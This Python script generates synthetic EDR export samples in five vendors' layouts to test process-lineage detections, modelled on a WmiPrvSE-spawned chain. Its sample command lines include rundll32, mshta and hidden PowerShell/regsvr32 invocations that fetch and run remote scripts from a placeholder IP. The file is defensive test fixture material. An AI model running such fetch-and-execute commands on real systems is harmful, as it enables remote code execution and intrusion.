#!/usr/bin/env python3
"""mk_edr_samples.py - the schema-built EDR samples of tests/data/layouts/.

The chain of mk_layout_samples.py, written in each EDR vendor's export layout
from the field names the vendor documents (see tests/data/layouts/<vendor>/
README.md), on host WS01.corp.example, user CORP\\alice:

  1. WmiPrvSE.exe (2864) starts rundll32.exe (4100) directly  (a plain detection)
  2. WmiPrvSE.exe starts `cmd.exe /Q /c run.bat` (4200),
  3.   which starts mshta.exe (4300)                           (a lineage detection)
  4. explorer.exe (1000) starts notepad.exe (4400)             (benign)
  5. powershell.exe (4500, not in the data) starts regsvr32.exe (4600); its
     grandparent is WmiPrvSE.exe: the one-row grandparent verdict, in the
     layouts that carry a grandparent. Cortex XDR has none: there its
     causality actor is WmiPrvSE.exe, which must NOT make a detection.

at 2024-03-05 10:15:01.100, 02.200, 02.300, 03.400 and 04.500 UTC, after one
event that is not a process creation at 10:15:00 (where the layout has other
events). Every row names its grandparent where the layout has the field.
Vendor ids: Falcon ids 56421xxxxx; Carbon Black GUIDs ORGKEY-device-pid-0-
start; SentinelOne 16-hex-digit UIDs; Cortex base64 instance ids; Defender
ProcessUniqueId in the streaming sample only (the portal and Log Analytics
samples link by host + PID + time).

Run from the repository root (mk_layout_samples.py runs it too):

    python3 tests/tools/mk_edr_samples.py
"""

import base64
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mk_layout_samples import (  # noqa: E402
    DOMAIN, HOST, NAME, SID, USER, csv_text, jsonl, local, utc, write)

OTHER_TIME = "2024-03-05 10:15:00.000"
SYSTEM32 = "C:\\Windows\\System32\\"

P = {
    "svchost": dict(path=SYSTEM32 + "svchost.exe", cmd="C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", pid=612),
    "userinit": dict(path=SYSTEM32 + "userinit.exe", cmd="C:\\Windows\\system32\\userinit.exe", pid=900),
    "wmi": dict(path=SYSTEM32 + "wbem\\WmiPrvSE.exe", cmd="C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                pid=2864, user="NT AUTHORITY\\NETWORK SERVICE", parent="svchost"),
    "explorer": dict(path="C:\\Windows\\explorer.exe", cmd="C:\\Windows\\Explorer.EXE", pid=1000, parent="userinit"),
    "powershell": dict(path=SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                       cmd="powershell.exe -nop -w hidden -c regsvr32 /s /u /i:http://198.51.100.7/c.sct scrobj.dll",
                       pid=4500, parent="wmi"),
    "rundll32": dict(path=SYSTEM32 + "rundll32.exe", cmd="rundll32.exe url.dll,OpenURL http://198.51.100.7/a.hta",
                     pid=4100, parent="wmi", time="2024-03-05 10:15:01.100"),
    "cmd": dict(path=SYSTEM32 + "cmd.exe", cmd="cmd.exe /Q /c run.bat", pid=4200, parent="wmi",
                time="2024-03-05 10:15:02.200"),
    "mshta": dict(path=SYSTEM32 + "mshta.exe", cmd="mshta.exe http://198.51.100.7/b.hta", pid=4300, parent="cmd",
                  time="2024-03-05 10:15:02.300"),
    "notepad": dict(path=SYSTEM32 + "notepad.exe", cmd="notepad.exe C:\\Users\\alice\\notes.txt", pid=4400,
                    parent="explorer", time="2024-03-05 10:15:03.400"),
    "regsvr32": dict(path=SYSTEM32 + "regsvr32.exe", cmd="regsvr32 /s /u /i:http://198.51.100.7/c.sct scrobj.dll",
                     pid=4600, parent="powershell", time="2024-03-05 10:15:04.500"),
}
CHAIN = ["rundll32", "cmd", "mshta", "notepad"]
WITH_GRANDPARENT = CHAIN + ["regsvr32"]
SHA256 = "0" * 64


def name(p):
    return P[p]["path"].rsplit("\\", 1)[1]


def parent(p):
    return P[p]["parent"]


def grandparent(p):
    return P[parent(p)]["parent"]


def pid(p):
    return P[p]["pid"]


def epoch_ms(t):
    return int(utc(t).timestamp() * 1000)


def iso7(t):
    """Defender's portal and streaming form: ISO UTC with 7 fraction digits."""
    return utc(t).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"


def iso_ms(t):
    return utc(t).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def us_local(t):
    """Log Analytics ` [Local Time]` text: en-US, 12-hour, milliseconds."""
    d = local(t)
    hour = d.hour % 12 or 12
    return f"{d.month}/{d.day}/{d.year}, {hour}:{d:%M:%S}.{d.microsecond // 1000:03d} {'AM' if d.hour < 12 else 'PM'}"


def go_time(t):
    """Carbon Black forwarder's `device_timestamp`: Go's time.String(), UTC."""
    return utc(t).strftime("%Y-%m-%d %H:%M:%S.%f") + "0 +0000 UTC"


# --- vendor ids --------------------------------------------------------------------


def falcon_id(p):
    return str(5_642_120_000 + pid(p))


CB_ORG = "7DESJ9GN"
CB_DEVICE = 0x0060A2C4


def cb_guid(p):
    return f"{CB_ORG}-{CB_DEVICE:08x}-{pid(p):08x}-00000000-1da6ef0{pid(p):08x}"


def s1_uid(p):
    return f"5A1F{pid(p):012X}"


def cortex_id(p):
    return base64.b64encode(b"\x01\xda\x6e\xf0" + pid(p).to_bytes(8, "big") + b"\x00\x00\x00\x00").decode()


def defender_unique(p):
    return str(7_000_000 + pid(p))


# --- Microsoft Defender for Endpoint ------------------------------------------------

DEFENDER_COLUMNS = [
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA256",
    "AccountDomain", "AccountName", "AccountSid", "ProcessId", "ProcessCommandLine", "ProcessCreationTime",
    "ProcessIntegrityLevel", "ProcessVersionInfoOriginalFileName", "InitiatingProcessFileName",
    "InitiatingProcessFolderPath", "InitiatingProcessId", "InitiatingProcessCommandLine",
    "InitiatingProcessCreationTime", "InitiatingProcessAccountDomain", "InitiatingProcessAccountName",
    "InitiatingProcessAccountObjectId", "InitiatingProcessVersionInfoOriginalFileName",
    "InitiatingProcessParentId", "InitiatingProcessParentFileName", "InitiatingProcessParentCreationTime",
    "ReportId", "AdditionalFields",
]
DEVICE_ID = "5b3a0cbe5d1e0c6e4f4d61d7c9bc07e3a2f3c001"


def defender_row(p, report, unique=False):
    par, gp = parent(p), grandparent(p)
    pu = P[par].get("user", USER)
    row = {
        "Timestamp": iso7(P[p]["time"]), "DeviceId": DEVICE_ID, "DeviceName": HOST.lower(),
        "ActionType": "ProcessCreated", "FileName": name(p), "FolderPath": P[p]["path"], "SHA256": SHA256,
        "AccountDomain": DOMAIN.lower(), "AccountName": NAME, "AccountSid": SID, "ProcessId": pid(p),
        "ProcessCommandLine": P[p]["cmd"], "ProcessCreationTime": iso7(P[p]["time"]),
        "ProcessIntegrityLevel": "Medium", "ProcessVersionInfoOriginalFileName": name(p).upper(),
        "InitiatingProcessFileName": name(par), "InitiatingProcessFolderPath": P[par]["path"].lower(),
        "InitiatingProcessId": pid(par), "InitiatingProcessCommandLine": P[par]["cmd"],
        "InitiatingProcessCreationTime": "2024-03-05T08:00:00.0000000Z",
        "InitiatingProcessAccountDomain": pu.split("\\")[0].lower(),
        "InitiatingProcessAccountName": pu.split("\\")[1].lower(),
        "InitiatingProcessAccountObjectId": "", "InitiatingProcessVersionInfoOriginalFileName": name(par),
        "InitiatingProcessParentId": pid(gp), "InitiatingProcessParentFileName": name(gp),
        "InitiatingProcessParentCreationTime": "2024-03-05T07:59:00.0000000Z", "ReportId": report,
        "AdditionalFields": "",
    }
    if unique:
        row["ProcessUniqueId"] = defender_unique(p)
        row["InitiatingProcessUniqueId"] = defender_unique(par)
    return row


def defender_wmi_query():
    """`ProcessCreatedUsingWmiQuery`: a DeviceEvents action type, not a creation."""
    return {
        "Timestamp": iso7(OTHER_TIME), "DeviceId": DEVICE_ID, "DeviceName": HOST.lower(),
        "ActionType": "ProcessCreatedUsingWmiQuery", "InitiatingProcessFileName": "WmiPrvSE.exe",
        "InitiatingProcessId": pid("wmi"), "InitiatingProcessParentFileName": "svchost.exe",
        "ReportId": 99,
        "AdditionalFields": json.dumps({"ClientMachine": "WS07", "IsRemoteMachine": True}),
    }


def make_defender():
    rows = [defender_wmi_query()] + [defender_row(p, 100 + i) for i, p in enumerate(WITH_GRANDPARENT)]
    write("defender/advanced_hunting_portal.csv", csv_text(DEFENDER_COLUMNS, rows))
    # Sentinel / Log Analytics: the same columns, time headers suffixed, local time (UTC-5).
    la_rows = []
    for i, p in enumerate(WITH_GRANDPARENT):
        r = defender_row(p, 200 + i)
        t = us_local(P[p]["time"])
        r.update({"TenantId": "0f2c4a6e-1b3d-4c5e-8f70-9a1b2c3d4e5f", "Timestamp [Local Time]": t,
                  "TimeGenerated [Local Time]": us_local(P[p]["time"].replace("10:15:", "10:17:")),
                  "ProcessCreationTime [Local Time]": t, "SourceSystem": "", "MachineGroup": "",
                  "Type": "DeviceProcessEvents"})
        la_rows.append(r)
    header = ["TenantId"] + [c for c in DEFENDER_COLUMNS if c not in ("Timestamp", "ProcessCreationTime")]
    header += ["Timestamp [Local Time]", "TimeGenerated [Local Time]", "ProcessCreationTime [Local Time]",
               "SourceSystem", "MachineGroup", "Type"]
    write("defender/log_analytics_local_time.csv", csv_text(header, la_rows))
    # The streaming API: one record per row, `properties`, in a records envelope.
    records = [{"time": iso7("2024-03-05 10:15:30.000"), "tenantId": "0f2c4a6e-1b3d-4c5e-8f70-9a1b2c3d4e5f",
                "operationName": "Publish", "category": "AdvancedHunting-DeviceNetworkEvents",
                "properties": {"Timestamp": iso7(OTHER_TIME), "DeviceId": DEVICE_ID, "DeviceName": HOST.lower(),
                               "ActionType": "ConnectionSuccess", "RemoteIP": "198.51.100.7", "RemotePort": 80,
                               "InitiatingProcessFileName": "svchost.exe", "InitiatingProcessId": pid("svchost"),
                               "ReportId": 98}}]
    for i, p in enumerate(WITH_GRANDPARENT):
        props = defender_row(p, 300 + i, unique=True)
        props["AdditionalFields"] = None
        records.append({"time": iso7("2024-03-05 10:15:30.000"), "tenantId": "0f2c4a6e-1b3d-4c5e-8f70-9a1b2c3d4e5f",
                        "operationName": "Publish", "category": "AdvancedHunting-DeviceProcessEvents",
                        "properties": props})
    write("defender/streaming_api_records.json", json.dumps({"records": records}, indent=2) + "\n")


# --- CrowdStrike Falcon ---------------------------------------------------------------

AID = "8c3d6f0a2b1e4d5c9a7b6e5f4d3c2b1a"
CID = "1f2e3d4c5b6a79808f7e6d5c4b3a2918"


def device_path(path):
    return "\\Device\\HarddiskVolume3" + path[2:]


def pr2(p):
    t = P[p]["time"]
    return {
        "event_simpleName": "ProcessRollup2", "name": "ProcessRollup2V19", "event_platform": "Win",
        "aid": AID, "cid": CID, "ComputerName": HOST, "UserSid": SID,
        "timestamp": str(epoch_ms(t) + 400), "ProcessStartTime": f"{utc(t).timestamp():.3f}",
        "RawProcessId": str(pid(p)), "TargetProcessId": falcon_id(p), "ParentProcessId": falcon_id(parent(p)),
        "SourceProcessId": falcon_id(parent(p)), "ImageFileName": device_path(P[p]["path"]),
        "CommandLine": P[p]["cmd"], "ParentBaseFileName": name(parent(p)),
        "GrandParentBaseFileName": name(grandparent(p)), "SHA256HashData": SHA256, "IntegrityLevel": "8192",
    }


def make_crowdstrike():
    dns = {"event_simpleName": "DnsRequest", "name": "DnsRequestV4", "event_platform": "Win", "aid": AID,
           "cid": CID, "ComputerName": HOST, "timestamp": str(epoch_ms(OTHER_TIME)),
           "ContextProcessId": falcon_id("svchost"), "DomainName": "example.org", "RequestType": "1"}
    write("crowdstrike/fdr_processrollup2.jsonl", jsonl([dns] + [pr2(p) for p in WITH_GRANDPARENT]))
    # Event Search: _decimal ids, FileName/FilePath, _time as displayed.
    header = ["_time", "event_simpleName", "aid", "ComputerName", "UserName", "FileName", "FilePath",
              "ImageFileName", "CommandLine", "ParentBaseFileName", "GrandParentBaseFileName",
              "RawProcessId_decimal", "TargetProcessId_decimal", "ParentProcessId_decimal"]
    rows = [{"_time": "03/05/2024 10:15:00.000", "event_simpleName": "DnsRequest", "aid": AID,
             "ComputerName": HOST}]
    for p in WITH_GRANDPARENT:
        path = device_path(P[p]["path"])
        rows.append({"_time": utc(P[p]["time"]).strftime("%m/%d/%Y %H:%M:%S.%f")[:-3],
                     "event_simpleName": "ProcessRollup2", "aid": AID, "ComputerName": HOST, "UserName": NAME,
                     "FileName": name(p), "FilePath": path.rsplit("\\", 1)[0] + "\\", "ImageFileName": path,
                     "CommandLine": P[p]["cmd"], "ParentBaseFileName": name(parent(p)),
                     "GrandParentBaseFileName": name(grandparent(p)), "RawProcessId_decimal": pid(p),
                     "TargetProcessId_decimal": falcon_id(p), "ParentProcessId_decimal": falcon_id(parent(p))})
    write("crowdstrike/event_search.csv", csv_text(header, rows))


# --- Carbon Black Cloud -----------------------------------------------------------------


def cb_search_row(p):
    par, t = parent(p), P[p]["time"]
    return {
        "backend_timestamp": iso_ms(t.replace("10:15:", "10:16:")), "childproc_count": 0, "crossproc_count": 0,
        "device_group_id": 0, "device_id": CB_DEVICE, "device_name": HOST, "device_os": "WINDOWS",
        "device_policy_id": 6525, "device_timestamp": iso_ms(t), "filemod_count": 0,
        "ingress_time": epoch_ms(t) + 30000, "modload_count": 3, "netconn_count": 0, "org_id": CB_ORG,
        "parent_guid": cb_guid(par), "parent_hash": [SHA256], "parent_name": P[par]["path"].lower(),
        "parent_pid": pid(par), "process_cmdline": [P[p]["cmd"]], "process_guid": cb_guid(p),
        "process_hash": ["0" * 32, SHA256], "process_name": P[p]["path"].lower(), "process_pid": [pid(p)],
        "process_start_time": iso_ms(t), "process_username": [USER], "regmod_count": 0,
        "scriptload_count": 0,
    }


CB_CSV = ["device_name", "device_timestamp", "process_start_time", "process_name", "process_pid",
          "process_cmdline", "process_guid", "process_username", "parent_name", "parent_pid", "parent_guid",
          "org_id", "device_id"]


def cb_event(kind, t, actor, **extra):
    e = {"type": kind, "schema": 1, "version": "1.0", "org_key": CB_ORG, "device_id": str(CB_DEVICE),
         "device_name": HOST, "device_os": "WINDOWS", "device_timestamp": go_time(t),
         "backend_timestamp": go_time(t.replace("10:15:", "10:16:"))[:19] + " +0000 UTC",
         "event_origin": "EDR", "process_guid": cb_guid(actor), "process_pid": pid(actor),
         "process_path": P[actor]["path"].lower(), "process_cmdline": P[actor]["cmd"],
         "process_username": P[actor].get("user", USER), "process_hash": ["0" * 32, SHA256]}
    gp = P[actor].get("parent")
    if gp:
        e.update({"parent_guid": cb_guid(gp), "parent_pid": pid(gp), "parent_path": P[gp]["path"].lower(),
                  "parent_cmdline": P[gp]["cmd"], "parent_hash": ["0" * 32, SHA256]})
    e.update(extra)
    return e


def make_carbonblack():
    rows = [cb_search_row(p) for p in CHAIN]
    envelope = {"results": rows, "num_found": len(rows), "num_available": len(rows), "approximate_unaggregated": 4,
                "num_aggregated": 4, "contacted": 1, "completed": 1}
    write("carbonblack/process_search_results.json", json.dumps(envelope, indent=2) + "\n")
    csv_rows = []
    for r in rows:
        csv_rows.append({k: (v[0] if isinstance(v, list) else v) for k, v in r.items()})
    write("carbonblack/process_search.csv", csv_text(CB_CSV, csv_rows))
    events = [cb_event("endpoint.event.netconn", OTHER_TIME, "svchost", action="ACTION_CONNECTION_CREATE",
                       remote_ip="198.51.100.7", remote_port=80, netconn_protocol="PROTO_TCP")]
    for p in WITH_GRANDPARENT:
        events.append(cb_event(
            "endpoint.event.procstart", P[p]["time"], parent(p), action="ACTION_CREATE_PROCESS",
            sensor_action="ACTION_ALLOW", childproc_guid=cb_guid(p), childproc_pid=pid(p),
            childproc_name=P[p]["path"].lower(), childproc_username=USER, target_cmdline=P[p]["cmd"],
            childproc_hash=["0" * 32, SHA256], childproc_effective_reputation="TRUSTED_WHITE_LIST"))
    write("carbonblack/forwarder_procstart.jsonl", jsonl(events))


# --- SentinelOne --------------------------------------------------------------------------

AGENT = "d3b07384d113edec49eaa6238ad5ff00"


def s1_camel(p):
    par, gp, t = parent(p), grandparent(p), P[p]["time"]
    return {
        "agentUuid": AGENT, "agentName": HOST.split(".")[0], "endpointName": HOST, "endpointOs": "windows",
        "siteName": "Default site", "eventType": "Process Creation", "objectType": "process",
        "eventTime": iso_ms(t), "createdAt": iso_ms(t.replace("10:15:", "10:16:"))[:-1] + "000Z",
        "tgtProcName": name(p), "tgtProcImagePath": P[p]["path"], "tgtProcCmdLine": P[p]["cmd"],
        "tgtProcPid": str(pid(p)), "tgtProcUid": s1_uid(p), "tgtProcUser": USER, "tgtProcStartTime": iso_ms(t),
        "tgtProcIntegrityLevel": "MEDIUM",
        "srcProcName": name(par), "srcProcImagePath": P[par]["path"], "srcProcCmdLine": P[par]["cmd"],
        "srcProcPid": str(pid(par)), "srcProcUid": s1_uid(par), "srcProcUser": P[par].get("user", USER),
        "srcProcParentName": name(gp), "srcProcParentImagePath": P[gp]["path"], "srcProcParentPid": str(pid(gp)),
        "srcProcParentUid": s1_uid(gp),
        # The legacy duplicates: the actor (the creator), not the new process.
        "processName": name(par), "pid": str(pid(par)), "parentPid": str(pid(gp)),
        "parentProcessName": name(gp), "processUniqueKey": s1_uid(par), "user": P[par].get("user", USER),
    }


S1_PASCAL = ["EventTime", "EventType", "EndpointName", "AgentUuid", "TgtProcName", "TgtProcImagePath",
             "TgtProcCmdLine", "TgtProcPID", "TgtProcUID", "TgtProcUser", "SrcProcName", "SrcProcImagePath",
             "SrcProcCmdLine", "SrcProcPID", "SrcProcUID", "SrcProcUser", "SrcProcParentName"]


def s1_dotted(p):
    par, gp, t = parent(p), grandparent(p), P[p]["time"]
    return {
        "timestamp": epoch_ms(t) * 1_000_000 + 123, "event.time": epoch_ms(t), "event.type": "Process Creation",
        "event.category": "process", "dataSource.name": "SentinelOne", "agent.uuid": AGENT,
        "endpoint.name": HOST, "endpoint.os": "windows", "site.name": "Default site",
        "tgt.process.name": name(p), "tgt.process.image.path": P[p]["path"], "tgt.process.cmdline": P[p]["cmd"],
        "tgt.process.pid": pid(p), "tgt.process.uid": s1_uid(p), "tgt.process.user": USER,
        "src.process.name": name(par), "src.process.image.path": P[par]["path"],
        "src.process.cmdline": P[par]["cmd"], "src.process.pid": pid(par), "src.process.uid": s1_uid(par),
        "src.process.user": P[par].get("user", USER), "src.process.parent.name": name(gp),
        "src.process.parent.image.path": P[gp]["path"],
    }


def make_sentinelone():
    other = {"agentUuid": AGENT, "endpointName": HOST, "eventType": "IP Connect", "objectType": "ip",
             "eventTime": iso_ms(OTHER_TIME), "srcProcName": "svchost.exe", "srcProcPid": str(pid("svchost")),
             "srcProcUid": s1_uid("svchost"), "dstIp": "198.51.100.7", "dstPort": 80}
    data = [other] + [s1_camel(p) for p in WITH_GRANDPARENT]
    response = {"data": data, "pagination": {"nextCursor": None, "totalItems": len(data)}}
    write("sentinelone/deep_visibility_api.json", json.dumps(response, indent=2) + "\n")
    rows = [{"EventTime": iso_ms(OTHER_TIME), "EventType": "IP Connect", "EndpointName": HOST, "AgentUuid": AGENT,
             "SrcProcName": "svchost.exe", "SrcProcPID": pid("svchost"), "SrcProcUID": s1_uid("svchost")}]
    for p in WITH_GRANDPARENT:
        c = s1_camel(p)
        rows.append({"EventTime": c["eventTime"], "EventType": c["eventType"], "EndpointName": HOST,
                     "AgentUuid": AGENT, "TgtProcName": c["tgtProcName"], "TgtProcImagePath": c["tgtProcImagePath"],
                     "TgtProcCmdLine": c["tgtProcCmdLine"], "TgtProcPID": c["tgtProcPid"],
                     "TgtProcUID": c["tgtProcUid"], "TgtProcUser": c["tgtProcUser"],
                     "SrcProcName": c["srcProcName"], "SrcProcImagePath": c["srcProcImagePath"],
                     "SrcProcCmdLine": c["srcProcCmdLine"], "SrcProcPID": c["srcProcPid"],
                     "SrcProcUID": c["srcProcUid"], "SrcProcUser": c["srcProcUser"],
                     "SrcProcParentName": c["srcProcParentName"]})
    write("sentinelone/deep_visibility_export.csv", csv_text(S1_PASCAL, rows))
    sdl_other = {"timestamp": epoch_ms(OTHER_TIME) * 1_000_000, "event.type": "IP Connect",
                 "dataSource.name": "SentinelOne", "endpoint.name": HOST, "src.process.name": "svchost.exe",
                 "src.process.pid": pid("svchost"), "dst.ip.address": "198.51.100.7"}
    write("sentinelone/sdl_cloud_funnel.jsonl", jsonl([sdl_other] + [s1_dotted(p) for p in WITH_GRANDPARENT]))


# --- Cortex XDR -----------------------------------------------------------------------------------

CORTEX_AGENT = "6f1e2d3c4b5a69788796a5b4c3d2e1f0"


def cortex_common(t):
    return {"agent_hostname": HOST, "agent_id": CORTEX_AGENT, "agent_os_type": "AGENT_OS_WINDOWS",
            "agent_version": "8.2.1.48543", "event_timestamp": str(epoch_ms(t)),
            "event_id": base64.b64encode(epoch_ms(t).to_bytes(8, "big")).decode()}


def cortex_row(p, causality):
    par, t = parent(p), P[p]["time"]
    row = {"event_type": "PROCESS", "event_sub_type": "PROCESS_START", **cortex_common(t),
           "action_process_image_name": name(p), "action_process_image_path": P[p]["path"],
           "action_process_image_command_line": P[p]["cmd"], "action_process_os_pid": str(pid(p)),
           "action_process_instance_id": cortex_id(p), "action_process_username": USER,
           "action_process_image_sha256": SHA256, "actor_process_image_name": name(par),
           "actor_process_image_path": P[par]["path"], "actor_process_command_line": P[par]["cmd"],
           "actor_process_os_pid": str(pid(par)), "actor_process_instance_id": cortex_id(par),
           "actor_primary_username": P[par].get("user", USER),
           "causality_actor_process_image_name": name(causality), "causality_actor_process_image_path":
               P[causality]["path"], "causality_actor_process_os_pid": str(pid(causality)),
           "os_actor_process_image_name": name(par), "os_actor_process_os_pid": str(pid(par))}
    return row


CORTEX_CSV = ["event_type", "event_sub_type", "agent_hostname", "event_timestamp",
              "action_file_path", "action_process_image_name", "action_process_image_path",
              "action_process_image_command_line", "action_process_os_pid", "action_process_instance_id",
              "action_process_username", "actor_process_image_name", "actor_process_image_path",
              "actor_process_command_line", "actor_process_os_pid", "actor_process_instance_id",
              "causality_actor_process_image_name"]


def make_cortex():
    other = {"event_type": "FILE", "event_sub_type": "FILE_OPEN", **cortex_common(OTHER_TIME),
             "action_file_path": "C:\\Windows\\System32\\config\\DRIVERS", "actor_process_image_name": "System",
             "actor_process_os_pid": "4", "causality_actor_process_image_name": "System"}
    causality = {"rundll32": "wmi", "cmd": "wmi", "mshta": "wmi", "notepad": "explorer",
                 # Not the grandparent: this row's causality actor is WmiPrvSE.exe, its
                 # parent powershell.exe is not in the data.
                 "regsvr32": "wmi"}
    rows = [other] + [cortex_row(p, causality[p]) for p in WITH_GRANDPARENT]
    write("cortex/xql_xdr_data.json", json.dumps(rows, indent=2) + "\n")
    write("cortex/xql_xdr_data.csv", csv_text(CORTEX_CSV, rows))


def main():
    make_defender()
    make_crowdstrike()
    make_carbonblack()
    make_sentinelone()
    make_cortex()


if __name__ == "__main__":
    main()
